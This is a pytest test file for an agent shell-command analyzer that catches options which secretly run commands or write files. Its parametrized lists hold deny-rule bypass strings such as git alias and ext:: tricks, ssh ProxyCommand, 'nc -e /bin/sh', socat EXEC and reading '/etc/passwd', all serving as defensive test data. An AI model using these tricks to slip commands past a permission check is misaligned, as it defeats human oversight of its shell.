"""Options that make an allowed program run commands or write files (``shell.program_options``,
``shell._more_program_options``).

With ``git`` allowed and ``rm`` denied, ``git -c alias.x='!rm -f victim' x`` runs ``rm``; so
do ``sed -n '1e rm …'``, git clone's own ``-c``, ``less '+!cmd'``, ``split --filter``, ``ssh -o
ProxyCommand`` …; ``sort -o``, ``sed -i``, ``git log --output``, ``curl --stderr F``, ``wget``
and ``gzip F`` write files. Each such invocation is read as running a command we cannot see
(``unknown``), as an interpreter (``runs_code``: ``sqlite3 '.shell'``, ``vim -c '!cmd'``) or
as writing a file, and the ordinary uses of the same programs stay clear.
"""

from __future__ import annotations

import pytest
from shell_rule_helpers import first

from agentworld.shell.commands import analyze
from agentworld.shell.program_options import plain_sed_script


@pytest.mark.parametrize(
    "line",
    [
        "git -c alias.x='!rm -f victim' x",
        "git -c core.pager='rm -f victim' log",
        "git -c core.fsmonitor='rm x' status",
        "git --config-env=core.pager=X log",
        "git --exec-path=/tmp/evil status",
        "git grep -O'rm -f victim' hello",
        "git grep --open-files-in-pager=rm hello",
        "git rebase -x 'rm x' HEAD~1",
        "git fetch --upload-pack='rm x' origin",
        "git clone -u 'rm x' repo",
        "git submodule foreach 'rm x'",
        "git bisect run rm x",
        "git config -e",
        "git $X status",
        "sed -n '1e rm -f victim' file.txt",
        "sed 's/.*/rm x/e' file.txt",
        "sed -n 'w out.txt' file.txt",
        "sed 's/a/b/w out.txt' file.txt",
        "sed -f script.sed file.txt",
        "sed -e 'r /etc/passwd' file.txt",
        "sed \"$SCRIPT\" file.txt",
        "man -P 'rm x' ls",
        "man --pager='rm x' ls",
        "rg --pre ./evil pattern",
        "sort --compress-program=./evil big.txt",
        "sort *",
        "tar --to-command='rm x' -xf a.tar",
        "tar -I ./evil -xf a.tar",
        "tar xIf ./evil a.tar",
        "tar --checkpoint-action=exec='rm x' -cf a.tar d",
        "zip -TT 'rm x' a.zip f",
        "rsync -e 'sh -c x' a host:b",
        "curl -K settings.txt",
        "sudo git -c alias.x='!id' x",
        "xargs git",  # the input becomes git's words: `-c alias.x=!rm x`
        "xargs -0 sort",
        "git clone -q -c protocol.ext.allow=always 'ext::sh -c touch% PWNED' d",
        "git clone --config protocol.ext.allow=always 'ext::sh -c touch% PWNED' d",
        "git clone --conf=protocol.ext.allow=always x d",
        "git clone -qc protocol.ext.allow=always x d",
        "git submodule -c x=y update",
        "git remote-ext x 'touch PWNED'",
        "git remote-fd 3",
        "git remote-https origin https://example.org",
        "git --git-dir=vendor/evil.git --work-tree=. status",
        "git --git-dir vendor/evil.git status",
        "git --work-tree=. status",
        "git --git-d=vendor/evil.git status",
        "git clone -q --template=tpl src d",
        "git clone --template tpl src d",
        "git init --template=tpl",
        "git init --separate-git-dir=elsewhere",
        "git send-email --sendmail-cmd='touch PWNED' a.patch",
        "git send-email --to-cmd='touch PWNED' a.patch",
        "git send-email --cc-cmd='touch PWNED' a.patch",
        "git send-email a.patch",
        "less --lesskey-src=/dev/stdin f",
        "less --lesskey-file=keys f",
        "less --lesskey-content='#env' f",
        "less -k keys f",
        "less -kkeys f",
        "less --lesskey f",
        "less '+!touch x' f",
        "less '+|touch x' f",
        "less +v f",
        "less '++!touch x' f",
        "split -n 1 --filter='touch PWNED' f",
        "split --filt='touch PWNED' f",
        "ssh -o ProxyCommand='touch PWNED' host",
        "ssh -oProxyCommand='touch PWNED' host",
        "ssh -vo 'LocalCommand touch PWNED' host",
        "ssh -o PermitLocalCommand=yes host",
        "ssh -o KnownHostsCommand=x host",
        "ssh -F evil.conf host",
        "ssh -I ./evil.so host",
        "scp -S ./evil a host:b",
        "scp -o ProxyCommand=x a host:b",
        "wget --use-askpass='touch PWNED' http://x/",
        "wget -e 'use_askpass=touch PWNED' http://x/",
        "wget --execute=x http://x/",
        "wget --config=evil.rc http://x/",
        "nc -e /bin/sh host 1",
        "nc -c 'touch PWNED' host 1",
        "ncat --exec 'touch PWNED' host 1",
        "ncat --sh-exec 'touch PWNED' host 1",
        "ncat --lua-exec x.lua host 1",
        "socat - EXEC:'touch PWNED'",
        "socat TCP-LISTEN:1,fork SYSTEM:'touch PWNED'",
        "socat - 'OPEN:x,creat'",
        "socat - ./file",
        "gh alias set x '!touch PWNED'",
        "gh alias import aliases.yml",
        "gh extension install owner/gh-evil",
        "gh ext exec x",
        "gh config set pager 'touch PWNED'",
        "gh x",
        "gh repo clone owner/repo -- -c core.fsmonitor=x",
        "curl -K opts.txt http://x/",
    ],
)
def test_an_option_that_runs_a_command_is_read_as_unknown(line: str) -> None:
    analysis = analyze(line)
    (program,) = [p for p in analysis.parts if p.root not in ("sudo", "xargs")]  # X is a part too
    assert program.opacity == "unknown"
    assert analysis.keys is None  # and no grant may cover it


@pytest.mark.parametrize(
    "line",
    [
        "sed -i s/a/b/ file.txt",
        "sed --in-place=.bak s/a/b/ file.txt",
        "sed -ni 's/a/b/p' file.txt",
        "sort -o out.txt in.txt",
        "sort -no out.txt in.txt",
        "sort --output=out.txt in.txt",
        "git log --output=out.txt",
        "git diff --output=out.txt",
        "git format-patch -o patches HEAD~2",
        "git config alias.x '!rm x'",
        "uniq in.txt out.txt",
        "xxd -r in.hex out.bin",
        "curl -o page.html http://example.test/",
        "curl -O http://example.test/file",
        "curl -sv --stderr WRITTEN http://127.0.0.1:9/",
        "curl --etag-save e http://x/",
        "curl --hsts h http://x/",
        "curl --alt-svc a http://x/",
        "curl -c jar http://x/",
        "curl --cookie-jar jar http://x/",
        "curl --trace t http://x/",
        "curl --trace-ascii t http://x/",
        "curl -D h http://x/",
        "curl --dump-header h http://x/",
        "curl -w '%output{f}%{http_code}' http://x/",
        "curl --write-out '%output{f}x' http://x/",
        "curl -w @fmt http://x/",
        "curl --libcurl c.c http://x/",
        "yq -i .a=1 f.yml",
        "yq --inplace .a=1 f.yml",
        "tree -o out.txt",
        "file -C -m magic",
        "wget http://x/",
        "wget -O out http://x/",
        "wget -qO- -o log http://x/",
        "wget -a log -O - http://x/",
        "wget --output-file=log -O - http://x/",
        "split -l 100 f part_",
        "csplit f 3",
        "gzip f",
        "xz -d f.xz",
        "bzip2 f",
        "zstd f -o g",
        "patch -p1",
        "less -o log f",
        "ssh -E log host",
        "scp host:a .",
        "tee f",
        "dd if=a of=b",
    ],
)
def test_an_option_that_writes_a_file_counts_as_a_redirection(line: str) -> None:
    opacity, writes = first(line)
    assert opacity == "clear"
    assert writes


@pytest.mark.parametrize(
    "line",
    [
        "git status --short",
        "git log --oneline -5",
        "git diff HEAD~1",
        "git grep -n needle",
        "git push -u origin main",
        "git config user.name",
        "sed 's/a/b/g' file.txt",
        "sed -n '/start/,/end/p' file.txt",
        "sed -ne 's/x/y/p' -e '3q' file.txt",
        "sed -E 's|a/b|c|g;$!N' file.txt",
        "sort -n file.txt",
        "uniq file.txt",
        "man ls",
        "rg -n needle src",
        "tar -tzf a.tgz",  # listing; extracting writes (test_archivers_under_a_rule)
        "curl http://example.test/",
        "git status",
        "git log -n 3",
        "git diff",
        "git log -c",
        "git switch -c topic",
        "git init",
        "less f",
        "less -N f",
        "less +G f",
        "less +42 f",
        "less '+/some pattern' f",
        "less -R f",
        "curl -s http://x/",
        "curl -sw '%{http_code}' http://x/",
        "wget -qO- http://x/",
        "wget -O - http://x/",
        "wget --output-document=- http://x/",
        "ssh host ls",
        "ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 host",
        "socat - TCP:host:80",
        "gh pr list",
        "gh alias list",
        "gh api repos/o/r",
        "gzip -c f",
        "gzip -dc f.gz",
        "gzip -l f.gz",
        "xz -t f.xz",
        "tree -L 2",
        "file f",
        "yq .a f.yml",
        "nc -z host 80",
    ],
)
def test_the_same_programs_without_such_options_stay_clear(line: str) -> None:
    assert first(line) == ("clear", False)


@pytest.mark.parametrize(
    "line",
    [
        "sqlite3 x.db .tables",
        "sqlite3 x.db '.shell touch PWNED'",
        "sqlite3 -cmd '.system touch PWNED' x.db",
        "sqlite3 -init evil.sql x.db",
        "vim --version",
        "vim -es -c '!touch PWNED' -c 'q!'",
        "vi -c '!touch PWNED' f",
        "view '+!touch PWNED' f",
        "ex -s f",
        "nvim --cmd x",
        "psql -c '\\! touch PWNED'",
        "psql -f x.sql",
        "mysql -e 'system touch PWNED'",
        "sftp -b batch host",
        "ed f",
        "emacs --batch --eval x",
    ],
)
def test_a_program_that_reads_commands_is_an_interpreter(line: str) -> None:
    assert first(line)[0] == "runs_code"
    assert analyze(line).keys is None


@pytest.mark.parametrize(
    ("script", "plain"),
    [
        ("s/a/b/g", True),
        ("s|a/b|c|gI2", True),
        ("s/a\\/b/c/", True),
        ("1,/^$/{s/a/b/;p}", True),
        ("$!N; /x/I,+3d", True),
        ("y/abc/xyz/", True),
        ("3q", True),
        ("1e rm x", False),
        ("s/a/b/e", False),
        ("s/a/b/w out", False),
        ("s/a/b/ w out", False),
        ("w out", False),
        ("r /etc/passwd", False),
        ("a text", False),
        ("#n", False),
        ("s/a/b", False),
        (":loop", False),
    ],
)
def test_plain_sed_scripts_are_the_ones_that_neither_run_nor_write(script: str, plain: bool) -> None:
    assert plain_sed_script(script) is plain
